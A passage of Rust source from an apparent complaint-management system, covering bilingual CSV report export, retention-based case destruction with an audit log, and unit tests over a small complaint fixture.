        (RANKINGS[2], named(&q.top_staff.rows), q.top_staff.more),
    ] {
        // Tied rows share a rank; the count column shows it.
        for (name, f) in rows {
            row(
                l(section.0, section.1),
                name,
                f.count,
                percent(f.count, total),
                numbers(f),
            )?;
        }
        if let Some(t) = more {
            row(
                l(section.0, section.1),
                tied_text(t, lang),
                t.each,
                percent(t.each, total),
                String::new(),
            )?;
        }
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// The monthly report as CSV: UTF-8 with a BOM, labels in `lang`. First the summary
/// (section, item, count, share, case numbers), then, after an empty line, one row per case.
pub fn monthly_report_csv(report: &MonthlyReport, lang: Language) -> Result<Vec<u8>, csv::Error> {
    let case_no: BTreeMap<&str, &str> = report
        .cases
        .iter()
        .map(|c| (c.id.as_str(), c.case_no.as_str()))
        .collect();
    let numbers = |f: &Figure| -> String {
        f.ids
            .iter()
            .map(|id| case_no.get(&**id).copied().unwrap_or(id))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let total = report.total.count;
    let mut w = summary_writer(lang)?;
    let l = |zh: &'static str, en: &'static str| lang.pick(zh, en);
    let mut row = |section: &str, item: String, f: &Figure, share: String| {
        w.write_record([
            safe_cell(section),
            safe_cell(&item),
            f.count.to_string(),
            share,
            safe_cell(&numbers(f)),
        ])
    };
    let period = format!("{}-{:02}", report.year, report.month);
    row(
        l("汇总", "Summary"),
        format!("{} {period}", l("受理投诉", "Complaints received")),
        &report.total,
        String::new(),
    )?;
    for (k, f) in &report.by_channel {
        row(
            l("受理方式", "Channel"),
            lang.pick(k.zh(), k.en()).into(),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_category {
        row(
            l("投诉类别", "Category"),
            category_label(*k, lang),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_department {
        row(
            l("责任部门", "Department"),
            department_label(k, lang),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_staff {
        row(
            l("涉及人员", "Staff involved"),
            k.clone(),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_severity {
        row(
            l("严重程度", "Severity"),
            severity_label(*k, lang),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_responsibility {
        row(
            l("责任认定", "Responsibility"),
            responsibility_label(*k, lang),
            f,
            percent(f.count, total),
        )?;
    }
    for (k, f) in &report.by_status {
        row(
            l("处理状态", "Status"),
            lang.pick(k.zh(), k.en()).into(),
            f,
            percent(f.count, total),
        )?;
    }
    for (section, limit) in [
        (
            l("3个工作日调查时限", "3-working-day investigation limit"),
            &report.investigation,
        ),
        (
            l("4个工作日反馈时限", "4-working-day response limit"),
            &report.response,
        ),
    ] {
        let decided = limit.within.count + limit.late.count;
        row(
            section,
            l("按时", "Within the limit").into(),
            &limit.within,
            percent(limit.within.count, decided),
        )?;
        row(
            section,
            l("超时", "Late").into(),
            &limit.late,
            percent(limit.late.count, decided),
        )?;
        row(
            section,
            l("未到期", "Pending").into(),
            &limit.pending,
            String::new(),
        )?;
    }
    if let Some(due) = report.head_office_due {
        w.write_record([
            l("报送", "Reporting").to_string(),
            l("报送经纪业务总部截止日", "Due at head office by").to_string(),
            due.layout("%Y-%m-%d"),
            String::new(),
            String::new(),
        ])?;
    }

    // A blank line before the case list: a record of one empty field would read `""`.
    let mut out = w.into_inner().map_err(|e| e.into_error())?;
    out.push(b'\n');
    let mut w = writer_after(out);
    write_case_list(&mut w, &report.cases, lang)?;
    w.into_inner().map_err(|e| e.into_error().into())
}

/// The complaint list's cases (those a filter found) as CSV: the monthly report's case list
/// (UTF-8 with a BOM), each case's limits as of `now`. No complainant's name or contact, as
/// in the report.
pub fn case_list_csv(
    cases: &[Complaint],
    cal: &WorkingCalendar,
    now: NaiveDateTime,
    lang: Language,
) -> Result<Vec<u8>, csv::Error> {
    let rows: Vec<CaseRow> = cases
        .iter()
        .map(|c| {
            let facts = CaseFacts::of(c);
            CaseRow {
                approved: c.approval_stage() == Some(ApprovalStage::Approved),
                destroyed: c.destroyed,
                ..CaseRow::of(&facts, &LimitVerdict::of(&facts, cal, now))
            }
        })
        .collect();
    let mut w = report_writer();
    write_case_list(&mut w, &rows, lang)?;
    w.into_inner().map_err(|e| e.into_error().into())
}

fn write_case_list(
    w: &mut csv::Writer<Vec<u8>>,
    cases: &[CaseRow],
    lang: Language,
) -> Result<(), csv::Error> {
    let l = |zh: &'static str, en: &'static str| lang.pick(zh, en);
    w.write_record([
        l("案件编号", "Case number"),
        l("受理时间", "Received"),
        l("受理方式", "Channel"),
        l("投诉类别", "Category"),
        l("严重程度", "Severity"),
        l("责任部门", "Department"),
        l("处理状态", "Status"),
        l("责任认定", "Responsibility"),
        l("反馈时间", "Responded"),
        l("调查时限", "Investigation limit"),
        l("反馈时限", "Response limit"),
    ])?;
    for c in cases {
        w.write_record(
            [
                c.case_no.clone(),
                fmt_time(c.received_at),
                lang.pick(c.channel.zh(), c.channel.en()).into(),
                category_label(c.category, lang),
                severity_label(c.severity, lang),
                department_label(&c.department, lang),
                {
                    let (zh, en) = if c.destroyed {
                        ("已销毁", "Destroyed")
                    } else if c.approved {
                        APPROVED_TEXT
                    } else {
                        (c.status.zh(), c.status.en())
                    };
                    lang.pick(zh, en).into()
                },
                responsibility_label(c.responsibility, lang),
                c.responded_at.map(fmt_time).unwrap_or_default(),
                state_label(c.investigation, lang).into(),
                state_label(c.response, lang).into(),
            ]
            .map(|cell: String| safe_cell(&cell)),
        )?;
    }
    Ok(())
}

// ───────────────────────────── retention ─────────────────────────────

/// Whether a case may now be destroyed: archived more than 5 years before `today`, and not
/// destroyed already. (Archived on 31 Mar 2020: eligible from 1 Apr 2025.)
pub fn eligible_for_destruction(c: &Complaint, today: NaiveDate) -> bool {
    if c.destroyed {
        return false;
    }
    let Some(archived) = c.archived_at else {
        return false;
    };
    match archived
        .date()
        .checked_add_months(Months::new(12 * RETENTION_YEARS))
    {
        Some(kept_until) => today > kept_until,
        None => false,
    }
}

/// One destroyed case as the destruction record names it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct DestroyedCase {
    /// The complaint document id (its purged skeleton stays in the store).
    pub id: String,
    pub case_no: String,
    pub received_at: NaiveDateTime,
    #[serde(default)]
    pub archived_at: Option<NaiveDateTime>,
}

/// The record of one destruction (document type `destruction_log`): who destroyed which
/// cases, when and why. It holds no personal data and is never itself destroyed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct DestructionLog {
    #[serde(rename = "_id")]
    pub id: String,
    #[serde(rename = "_rev", default, skip_serializing_if = "Option::is_none")]
    pub rev: Option<String>,
    pub at: NaiveDateTime,
    pub by: StaffRef,
    pub role: Role,
    pub why: String,
    /// The cases destroyed, in the order given.
    pub cases: Vec<DestroyedCase>,
}

impl Record for DestructionLog {
    const TYPE: &'static str = "destruction_log";
}

/// Why a destruction was refused (then nothing is destroyed).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum DestructionError {
    /// No case was chosen.
    NothingChosen,
    /// One case may not be destroyed (role, status, retention period, reason missing).
    Refused {
        case_no: String,
        error: ComplaintError,
    },
}

impl DestructionError {
    pub fn zh(&self) -> String {
        match self {
            DestructionError::NothingChosen => "未选择要销毁的案件".into(),
            DestructionError::Refused { case_no, error } => {
                format!("案件 {case_no} 不能销毁：{}", error.zh())
            }
        }
    }
    pub fn en(&self) -> String {
        match self {
            DestructionError::NothingChosen => "No case was chosen for destruction".into(),
            DestructionError::Refused { case_no, error } => {
                format!("Case {case_no} cannot be destroyed: {}", error.en())
            }
        }
    }
}

/// Destroy several cases at once, all or none: each is purged through
/// [`Action::Destroy`] (which checks the actor's role and the retention period and appends a
/// history event), and one [`DestructionLog`] with id `log_id` records the whole action.
/// Returns the purged cases (to be written with the log in one transaction) and the log.
pub fn destroy_cases(
    cases: &[Complaint],
    actor: &Actor,
    now: NaiveDateTime,
    why: &str,
    log_id: String,
) -> Result<(Vec<Complaint>, DestructionLog), DestructionError> {
    if cases.is_empty() {
        return Err(DestructionError::NothingChosen);
    }
    let mut purged = Vec::with_capacity(cases.len());
    let mut named = Vec::with_capacity(cases.len());
    for c in cases {
        let mut copy = c.clone();
        copy.apply(
            Action::Destroy {
                why: why.to_string(),
            },
            actor,
            now,
        )
        .map_err(|error| DestructionError::Refused {
            case_no: c.case_no.clone(),
            error,
        })?;
        named.push(DestroyedCase {
            id: c.id.clone(),
            case_no: c.case_no.clone(),
            received_at: c.received_at,
            archived_at: c.archived_at,
        });
        purged.push(copy);
    }
    let log = DestructionLog {
        id: log_id,
        rev: None,
        at: now,
        by: StaffRef::from(actor),
        role: actor.role,
        why: why.trim().to_string(),
        cases: named,
    };
    Ok((purged, log))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::complaint::{HistoryEvent, Round, StaffRef};

    fn t(s: &str) -> NaiveDateTime {
        NaiveDateTime::parse_from_str(s, "%Y-%m-%d %H:%M").unwrap()
    }
    fn d(y: i32, m: u32, day: u32) -> NaiveDate {
        NaiveDate::from_ymd_opt(y, m, day).unwrap()
    }

    #[test]
    fn a_share_on_a_tie_rounds_up() {
        // 1 of 16 by e-mail: 6.25 % is 6.3 % (it read 6.2 %, a tie rounded to even).
        assert_eq!(percent(1, 16), "6.3%");
        assert_eq!(percent(5, 16), "31.3%");
        assert_eq!(percent(1, 3), "33.3%");
        assert_eq!(percent(0, 0), "");
    }

    struct Spec<'a> {
        n: u32,
        received: &'a str,
        channel: Channel,
        category: Option<Category>,
        department: Option<&'a str>,
        staff: &'a [&'a str],
        severity: Option<u8>,
        status: Status,
        responsibility: Option<Responsibility>,
        submitted: Option<&'a str>,
        responded: Option<&'a str>,
    }

    fn event(at: NaiveDateTime, action: ActionKind, from: Status, to: Status) -> HistoryEvent {
        HistoryEvent {
            at,
            by: StaffRef {
                id: "staff:1".into(),
                name: "甲".into(),
            },
            action,
            from_status: from,
            to_status: to,
            round: 1,
            why: None,
        }
    }

    fn case(s: Spec) -> Complaint {
        let received = t(s.received);
        let mut round = Round::new(1, received, None);
        round.responsibility = s.responsibility;
        let mut history = vec![event(
            received,
            ActionKind::Receive,
            Status::Received,
            Status::Received,
        )];
        if let Some(at) = s.submitted {
            history.push(event(
                t(at),
                ActionKind::SubmitOpinion,
                Status::Investigating,
                Status::AwaitingApproval,
            ));
        }
        if let Some(at) = s.responded {
            history.push(event(
                t(at),
                ActionKind::Respond,
                Status::AwaitingApproval,
                Status::Responded,
            ));
        }
        Complaint {
            // Ids sort like the receipt order of the fixture.
            id: format!("complaint:{:02}", s.n),
            rev: None,
            case_no: format!("TS-{}-A-{:04}", received.layout("%Y%m%d"), s.n),
            branch_code: "BR01".into(),
            complainant: Default::default(),
            customer_id: None,
            from_demand: None,
            from_survey: None,
            channel: s.channel,
            received_at: received,
            event_time: None,
            event_place: String::new(),
            staff_involved: s.staff.iter().map(|x| x.to_string()).collect(),
            narrative: "x".into(),
            category: s.category,
            severity: s.severity,
            department: s.department.map(String::from),
            preliminary_opinion: String::new(),
            status: s.status,
            rounds: vec![round],
            closed_at: None,
            archived_at: None,
            destroyed: false,
            history,
        }
    }

    /// September 2026 (six cases), plus one case each in July, August and October.
    /// The limits (official calendar, day of receipt = day 1):
    /// 01 Tue 1 Sep: investigation due 3 Sep, response 4 Sep; met 2 and 3 Sep: within both.
    /// 02 Thu 10 Sep: due 14 and 15 Sep; met 16 and 17 Sep: late both.
    /// 03 Fri 18 Sep: 18, Sun 20 (make-up), 21 -> due 21 and 22 Sep; met 21 and 22: within.
    /// 04 Tue 29 Sep: 29, 30, 8 Oct -> due 8 and 9 Oct; nothing done: overdue by 20 Oct.
    /// 05 Wed 30 Sep: 30, 8, 9 -> due 9 Oct and Sat 10 Oct (make-up); met 9 and 10 Oct: within.
    /// 06 Wed 30 Sep 18:00: due 9 and 10 Oct; nothing done, unclassified: overdue by 20 Oct.
    fn fixture() -> Vec<Complaint> {
        use Category as C;
        use Channel as Ch;
        use Responsibility as R;
        vec![
            case(Spec {
                n: 1,
                received: "2026-09-01 09:00",
                channel: Ch::Phone,
                category: Some(C::ServiceAttitude),
                department: Some("运营部"),
                staff: &["李四"],
                severity: Some(2),
                status: Status::Closed,
                responsibility: Some(R::OursPartial),
                submitted: Some("2026-09-02 10:00"),
                responded: Some("2026-09-03 10:00"),
            }),
            case(Spec {
                n: 2,
                received: "2026-09-10 16:00",
                channel: Ch::InPerson,
                category: Some(C::ServiceAttitude),
                department: Some("运营部"),
                staff: &["李四", "王五"],
                severity: Some(3),
                status: Status::Responded,
                responsibility: Some(R::OursSerious),
                submitted: Some("2026-09-16 10:00"),
                responded: Some("2026-09-17 10:00"),
            }),
            case(Spec {
                n: 3,
                received: "2026-09-18 11:00",
                channel: Ch::Internet,
                category: Some(C::Fees),
                department: Some("财富管理部"),
                staff: &[],
                severity: Some(1),
                status: Status::Verifying,
                responsibility: Some(R::NotOurs),
                submitted: Some("2026-09-21 17:00"),
                responded: Some("2026-09-22 17:00"),
            }),
            case(Spec {
                n: 4,
                received: "2026-09-29 14:00",
                channel: Ch::Letter,
                category: Some(C::TradingSystem),
                department: Some("信息技术部"),
                staff: &["赵六"],
                severity: Some(4),
                status: Status::Investigating,
                responsibility: None,
                submitted: None,
                responded: None,
            }),
            case(Spec {
                n: 5,
                received: "2026-09-30 09:00",
                channel: Ch::Phone,
                category: Some(C::Fees),
                department: Some("财富管理部"),
                staff: &["李四"],
                severity: Some(2),
                status: Status::Responded,
                responsibility: Some(R::OursPartial),
                submitted: Some("2026-10-09 16:00"),
                responded: Some("2026-10-10 11:00"),
            }),
            case(Spec {
                n: 6,
                received: "2026-09-30 18:00",
                channel: Ch::Phone,
                category: None,
                department: None,
                staff: &[],
                severity: None,
                status: Status::Received,
                responsibility: None,
                submitted: None,
                responded: None,
            }),
            case(Spec {
                n: 7,
                received: "2026-08-31 10:00",
                channel: Ch::Phone,
                category: Some(C::ServiceAttitude),
                department: Some("运营部"),
                staff: &["李四"],
                severity: Some(1),
                status: Status::Closed,
                responsibility: Some(R::NotOurs),
                submitted: Some("2026-08-31 15:00"),
                responded: Some("2026-09-01 10:00"),
            }),
            case(Spec {
                n: 8,
                received: "2026-10-01 00:00",
                channel: Ch::Email,
                category: Some(C::Other),
                department: Some("客服部"),
                staff: &[],
                severity: Some(1),
                status: Status::Received,
                responsibility: None,
                submitted: None,
                responded: None,
            }),
            case(Spec {
                n: 9,
                received: "2026-07-15 10:00",
                channel: Ch::Email,
                category: Some(C::AccountHandling),
                department: Some("运营部"),
                staff: &["王五"],
                severity: Some(2),
                status: Status::Archived,
                responsibility: Some(R::OursPartial),
                submitted: Some("2026-07-16 10:00"),
                responded: Some("2026-07-17 10:00"),
            }),
        ]
    }

    fn ids(ns: &[u32]) -> Vec<Arc<str>> {
        ns.iter()
            .map(|n| format!("complaint:{n:02}").into())
            .collect()
    }

    fn fig(ns: &[u32]) -> Figure {
        Figure {
            count: ns.len() as u32,
            ids: ids(ns),
        }
    }

    #[test]
    fn a_reopened_case_keeps_its_latest_finding_until_the_new_round_makes_one() {
        use Responsibility as R;
        // Case 2 was answered with a finding, then reopened: round 2 has none yet.
        let mut c = fixture().into_iter().nth(1).unwrap();
        c.rounds.push(Round::new(2, t("2026-09-20 10:00"), None));
        let facts = CaseFacts::of(&c);
        assert_eq!(facts.responsibility, Some(R::OursSerious));
        // Its first answer stands too: the row names one round's finding and answer.
        assert_eq!(facts.responded_at, Some(t("2026-09-17 10:00")));
        let mut body = serde_json::to_value(&c).unwrap();
        body.as_object_mut().unwrap().remove("_id");
        assert_eq!(CaseFacts::of_body(&c.id, &body).unwrap(), facts);
        // The new round's own finding replaces it.
        c.rounds.last_mut().unwrap().responsibility = Some(R::NotOurs);
        assert_eq!(CaseFacts::of(&c).responsibility, Some(R::NotOurs));
    }

    #[test]
    fn facts_read_from_the_stored_body_equal_those_of_the_complaint() {
        for c in fixture() {
            let mut body = serde_json::to_value(&c).unwrap();
            let obj = body.as_object_mut().unwrap();
            obj.remove("_id");
            obj.remove("_rev");
            obj.insert("type".into(), "complaint".into());
            let facts = CaseFacts::of_body(&c.id, &body).unwrap();
            assert_eq!(facts, CaseFacts::of(&c));
            // Stored as an array, without the id (the summary entry holds it) and without
            // absent values at its end.
            let text = serde_json::to_string(&facts).unwrap();
            assert!(text.starts_with("[\"") && !text.contains(&c.id), "{text}");
            assert!(!text.ends_with("null]"), "{text}");
            let read: CaseFacts = serde_json::from_str(&text).unwrap();
            assert_eq!(read.with_id(c.id.clone()), facts);
        }
        // Open, closed with a finding, answered but not investigated: each array's length.
        let lens: Vec<usize> = fixture()
            .iter()
            .map(|c| {
                let text = serde_json::to_string(&CaseFacts::of(c)).unwrap();
                serde_json::from_str::<Vec<serde_json::Value>>(&text)
                    .unwrap()
                    .len()
            })
            .collect();
        assert!(lens.contains(&8) && lens.contains(&11), "{lens:?}");
        let mut answered = CaseFacts::of(&fixture()[0]);
        (answered.responsibility, answered.opinion_at) = (None, None);
        answered.responded_at = Some(t("2026-10-02 09:00"));
        let text = serde_json::to_string(&answered).unwrap();
        assert!(
            text.ends_with(",null,null,\"2026-10-02T09:00:00\"]"),
            "{text}"
        );
        let read: CaseFacts = serde_json::from_str(&text).unwrap();
        assert_eq!(read.with_id(answered.id.clone()), answered);
        // Facts stored before as objects still read: with the id, and without it.
        let old = r#"{"i":"complaint:1","n":"TS-1","r":"2026-10-16T12:22:00","c":"email","k":null,"v":null,"d":null,"p":[],"s":"received","b":null,"o":null,"a":null}"#;
        let read: CaseFacts = serde_json::from_str(old).unwrap();
        assert_eq!((read.id.as_str(), read.category), ("complaint:1", None));
        let old = r#"{"n":"TS-2","r":"2026-10-16T12:22:00","c":"email","v":2,"s":"closed","a":"2026-10-17T08:00:00"}"#;
        let read: CaseFacts = serde_json::from_str(old).unwrap();
        assert_eq!(
            (read.id.as_str(), read.severity, read.responded_at),
            ("", Some(2), Some(t("2026-10-17 08:00")))
        );
        assert_eq!(
            CaseFacts::of_body("x", &serde_json::json!({"type": "note"})),
            None
        );
    }

    #[test]
    fn the_report_from_stored_facts_equals_the_report_from_complaints() {
        let cal = WorkingCalendar::china_official();
        let now = t("2026-10-20 12:00");
        let mut from_cases = MonthlyAggregator::new(2026, 9, cal.clone(), now);
        let mut from_facts = MonthlyAggregator::new(2026, 9, cal, now);
        for c in fixture() {
            let body = serde_json::to_value(&c).unwrap();
            let facts: CaseFacts = serde_json::from_str(
                &serde_json::to_string(&CaseFacts::of_body(&c.id, &body).unwrap()).unwrap(),
            )
            .map(|f: CaseFacts| f.with_id(c.id.clone()))
            .unwrap();
            assert_eq!(from_cases.add(&c), from_facts.add_facts(&facts));
        }
        assert_eq!(from_cases.finish(), from_facts.finish());
    }

    #[test]
    fn one_person_typed_two_ways_is_one_row() {
        use super::super::kpi::person_label;
        for (typed, label) in [
            ("赵六", "赵六"),
            (" 赵 六 ", "赵六"),
            ("赵六（柜台）", "赵六"),
            ("赵六 (柜台)", "赵六"),
            ("（柜台）", "（柜台）"),
            ("Li  Qiang (desk)", "Li Qiang"),
        ] {
            assert_eq!(person_label(typed), label, "{typed}");
        }
        let cal = WorkingCalendar::china_official();
        let mut cases = fixture();
        cases[0].staff_involved = vec!["赵六（柜台）".into(), "赵六".into()];
        cases[1].staff_involved = vec!["赵 六".into()];
        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
        // Case 4 names 赵六 already; cases 1 and 2 now too, case 1 once.
        assert_eq!(r.by_staff["赵六"], fig(&[1, 2, 4]));
        assert!(!r
            .by_staff
            .keys()
            .any(|k| k.contains('（') || k.contains(' ')));
    }

    #[test]
    fn one_person_in_two_letter_cases_is_one_row() {
        let cal = WorkingCalendar::china_official();
        let mut cases = fixture();
        cases[0].staff_involved = vec!["carl xu".into()];
        cases[1].staff_involved = vec!["Carl Xu".into(), "carl  xu".into()];
        cases[2].staff_involved = vec!["ＣＡＲＬ　ＸＵ（柜台）".into()];
        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
        // Case 2 names the person twice: once in the row. Two cases typed "carl xu" (one
        // with two spaces), one "Carl Xu", one in full width: the row reads "carl xu".
        assert_eq!(r.by_staff["carl xu"], fig(&[1, 2, 3]));
        assert!(!r.by_staff.contains_key("Carl Xu"));
        assert_eq!(
            r.by_staff
                .keys()
                .filter(|k| super::super::kpi::person_key(k) == "carlxu")
                .count(),
            1
        );
        // On a tie, the first in order: "Carl Xu" sorts before "carl xu".
        cases[0].staff_involved = vec!["Carl Xu".into()];
        cases[1].staff_involved = vec!["carl xu".into()];
        cases[2].staff_involved = vec![];
        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
        assert_eq!(r.by_staff["Carl Xu"], fig(&[1, 2]));
        assert!(!r.by_staff.contains_key("carl xu"));
        // The quarter merges the months' rows the same way.
        let q = quarterly_analysis(&cases, 2026, 3, &cal, t("2026-10-20 10:00"), 10);
        let carl: Vec<_> = q
            .top_staff
            .rows
            .iter()
            .filter(|(k, _)| super::super::kpi::person_key(k) == "carlxu")
            .collect();
        assert_eq!(carl.len(), 1);
        assert_eq!(carl[0].0, "Carl Xu");
    }

    #[test]
    fn september_report_by_hand() {
        let cal = WorkingCalendar::china_official();
        let mut cases = fixture();
        // One department with a space after it (from an import or an older device): one row.
        cases[1].department = Some("运营部 ".into());
        let r = monthly_report(&cases, 2026, 9, &cal, t("2026-10-20 10:00"));
        assert_eq!(r.total, fig(&[1, 2, 3, 4, 5, 6]));
        assert_eq!(r.by_channel[&Channel::Phone], fig(&[1, 5, 6]));
        assert_eq!(r.by_channel[&Channel::InPerson], fig(&[2]));
        assert_eq!(r.by_channel[&Channel::Internet], fig(&[3]));
        assert_eq!(r.by_channel[&Channel::Letter], fig(&[4]));
        assert_eq!(r.by_channel.len(), 4);
        assert_eq!(
            r.by_category[&Some(Category::ServiceAttitude)],
            fig(&[1, 2])
        );
        assert_eq!(r.by_category[&Some(Category::Fees)], fig(&[3, 5]));
        assert_eq!(r.by_category[&Some(Category::TradingSystem)], fig(&[4]));
        assert_eq!(r.by_category[&None], fig(&[6]));
        assert_eq!(r.by_department[&Some("运营部".into())], fig(&[1, 2]));
        assert_eq!(r.by_department[&Some("财富管理部".into())], fig(&[3, 5]));
        assert_eq!(r.by_department[&Some("信息技术部".into())], fig(&[4]));
        assert_eq!(r.by_department[&None], fig(&[6]));
        assert_eq!(r.by_staff["李四"], fig(&[1, 2, 5]));
        assert_eq!(r.by_staff["王五"], fig(&[2]));
        assert_eq!(r.by_staff["赵六"], fig(&[4]));
        assert_eq!(r.by_staff.len(), 3);
        assert_eq!(r.by_severity[&Some(1)], fig(&[3]));
        assert_eq!(r.by_severity[&Some(2)], fig(&[1, 5]));
        assert_eq!(r.by_severity[&Some(3)], fig(&[2]));
        assert_eq!(r.by_severity[&Some(4)], fig(&[4]));
        assert_eq!(r.by_severity[&None], fig(&[6]));
        assert_eq!(
            r.by_responsibility[&Some(Responsibility::OursPartial)],
            fig(&[1, 5])
        );
        assert_eq!(
            r.by_responsibility[&Some(Responsibility::OursSerious)],
            fig(&[2])
        );
        assert_eq!(
            r.by_responsibility[&Some(Responsibility::NotOurs)],
            fig(&[3])
        );
        assert_eq!(r.by_responsibility[&None], fig(&[4, 6]));
        assert_eq!(r.by_status[&Status::Closed], fig(&[1]));
        assert_eq!(r.by_status[&Status::Responded], fig(&[2, 5]));
        assert_eq!(r.by_status[&Status::Verifying], fig(&[3]));
        assert_eq!(r.by_status[&Status::Investigating], fig(&[4]));
        assert_eq!(r.by_status[&Status::Received], fig(&[6]));

        assert_eq!(r.investigation.within, fig(&[1, 3, 5]));
        assert_eq!(r.investigation.late, fig(&[2, 4, 6]));
        assert_eq!(r.investigation.pending, fig(&[]));
        assert_eq!(r.investigation.share_within(), Some(0.5));
        assert_eq!(r.response.within, fig(&[1, 3, 5]));
        assert_eq!(r.response.late, fig(&[2, 4, 6]));

        let overdue: Vec<&str> = r.overdue.iter().map(|o| o.id.as_str()).collect();
        assert_eq!(
            overdue,
            vec!["complaint:02", "complaint:04", "complaint:06"]
        );
        assert!(matches!(
            r.overdue[0].breaches[..],
            [
                (ClockKind::Investigation, ClockState::MetLate { .. }),
                (ClockKind::Response, ClockState::MetLate { .. })
            ]
        ));
        assert!(matches!(
            r.overdue[1].breaches[0],
            (ClockKind::Investigation, ClockState::Overdue { .. })
        ));
        // 3rd trading day of October 2026: 8, 9, (10 is a make-up Saturday), 12.
        assert_eq!(r.head_office_due, Some(d(2026, 10, 12)));
        assert_eq!(r.cases.len(), 6);
        // The case rows show it as counted, without the space.
        assert!(
            r.cases
                .iter()
                .filter(|c| c.department.as_deref() == Some("运营部"))
                .count()
                == 2
        );
        assert!(r
            .cases
            .iter()
            .all(|c| c.department.as_deref() != Some("运营部 ")));
        assert_eq!(r.cases[4].responded_at, Some(t("2026-10-10 11:00")));
    }

    #[test]
    fn pending_limits_earlier_in_the_month() {
        let cal = WorkingCalendar::china_official();
        // On 1 Oct, cases 04 and 06 are not yet due; 02 is already late.
        let r = monthly_report(&fixture(), 2026, 9, &cal, t("2026-10-01 12:00"));
        assert_eq!(r.investigation.within, fig(&[1, 3, 5]));
        assert_eq!(r.investigation.late, fig(&[2]));
        assert_eq!(r.investigation.pending, fig(&[4, 6]));
        assert_eq!(r.investigation.share_within(), Some(0.75));
        assert_eq!(r.overdue.len(), 1);
        let empty = monthly_report(&[], 2026, 9, &cal, t("2026-10-01 12:00"));
        assert_eq!(empty.total.count, 0);
        assert_eq!(empty.investigation.share_within(), None);
    }

    #[test]
    fn incremental_aggregation_equals_the_batch_whatever_the_order() {
        let cal = WorkingCalendar::china_official();
        let now = t("2026-10-20 10:00");
        let cases = fixture();
        let batch = monthly_report(&cases, 2026, 9, &cal, now);
        let mut agg = MonthlyAggregator::new(2026, 9, cal.clone(), now);
        let mut reversed = cases.clone();
        reversed.reverse();
        // Two pages of a stream.
        let counted = agg.add_all(&reversed[..4]) + agg.add_all(&reversed[4..]);
        assert_eq!(counted, 6);
        assert_eq!(agg.snapshot(), batch);
        assert_eq!(agg.finish(), batch);
        // A single case outside the month is skipped.
        let mut agg = MonthlyAggregator::new(2026, 9, cal, now);
        assert!(!agg.add(&cases[7]));
        assert!(agg.add(&cases[0]));
        assert_eq!(agg.finish().total.count, 1);
    }

    /// Whatever order the cases come in (in order by id, by time received, neither, or
    /// repeated), the report's lists come out the same.
    #[test]
    fn the_lists_are_in_order_whatever_order_the_cases_came_in() {
        let cal = WorkingCalendar::china_official();
        let now = t("2026-10-20 10:00");
        let cases = fixture();
        let batch = monthly_report(&cases, 2026, 9, &cal, now);
        let mut by_id = cases.clone();
        by_id.sort_by(|a, b| a.id.cmp(&b.id));
        let mut by_time = cases.clone();
        by_time.sort_by(|a, b| (a.received_at, &a.id).cmp(&(b.received_at, &b.id)));
        let mut by_time_late_first = by_time.clone();
        by_time_late_first.reverse();
        let mut swapped = by_time.clone();
        swapped.swap(1, 2);
        for order in [by_id, by_time, by_time_late_first, swapped] {
            let mut agg = MonthlyAggregator::new(2026, 9, cal.clone(), now);
            agg.add_all(&order);
            assert_eq!(agg.finish(), batch);
        }
        // The lists hold more than one case each, so the order is put to the test.
        assert!(batch.cases.len() > 2 && batch.total.ids.len() > 2);
        // A month whose cases came in order by time but not by id (ids of another clock).
        let mut renamed = cases.clone();
        renamed.sort_by(|a, b| (a.received_at, &a.id).cmp(&(b.received_at, &b.id)));
        let n = renamed.len();
        for (i, c) in renamed.iter_mut().enumerate() {
            c.id = format!("complaint:{:02}", n - i);
        }
        let fed = monthly_report(&renamed, 2026, 9, &cal, now);
        let mut agg = MonthlyAggregator::new(2026, 9, cal.clone(), now);
        renamed.reverse();
        agg.add_all(&renamed);
        let back = agg.finish();
        assert_eq!(back, fed);
        assert!(back.total.ids.windows(2).all(|w| w[0] < w[1]));
        let times: Vec<_> = back.cases.iter().map(|c| c.received_at).collect();
        assert!(times.windows(2).all(|w| w[0] <= w[1]));
    }

    #[test]
    fn a_ranking_keeps_a_tie_whole() {
        let counts = |v: &[(&str, u32)]| -> BTreeMap<String, Figure> {
            v.iter()
                .map(|(k, n)| {
                    let ids = (0..*n)
                        .map(|i| Arc::from(format!("{k}{i}").as_str()))
                        .collect();
                    (k.to_string(), Figure { count: *n, ids })
                })
                .collect()
        };
        let names = |r: &Ranking<String>| -> Vec<(usize, String)> {
            r.ranked().map(|(n, k, _)| (n, k.clone())).collect()
        };
        let one = |k: &str| k.to_string();
        // QA's quarter: one person twice, six once each. Top five: all seven, ranks 1, 2 × 6.
        let qa = counts(&[
            ("褚七", 2),
            ("周一", 1),
            ("吴二", 1),
            ("郑三", 1),
            ("王四", 1),
            ("冯五", 1),
            ("陈六", 1),
        ]);
        let r = top(qa.clone(), 5);
        assert_eq!(r.rows.len(), 7);
        assert_eq!(r.more, None);
        assert_eq!(names(&r)[0], (1, one("褚七")));
        assert!(names(&r)[1..].iter().all(|(n, _)| *n == 2));
        // Top three: the tie of six would make seven rows, over twice three: left out whole.
        let r = top(qa, 3);
        assert_eq!(names(&r), vec![(1, one("褚七"))]);
        assert_eq!(r.more, Some(Tied { items: 6, each: 1 }));
        assert_eq!(
            tied_text(r.more.unwrap(), Language::Zh),
            "另有 6 项并列，各 1 件（未列出）"
        );
        assert_eq!(
            tied_text(r.more.unwrap(), Language::En),
            "6 more tied at 1 each (not listed)"
        );
        // No tie at the cut-off: exactly n; a tie above it keeps its shared rank.
        let r = top(
            counts(&[("a", 5), ("b", 5), ("c", 3), ("d", 2), ("e", 1)]),
            3,
        );
        assert_eq!(names(&r), vec![(1, one("a")), (1, one("b")), (3, one("c"))]);
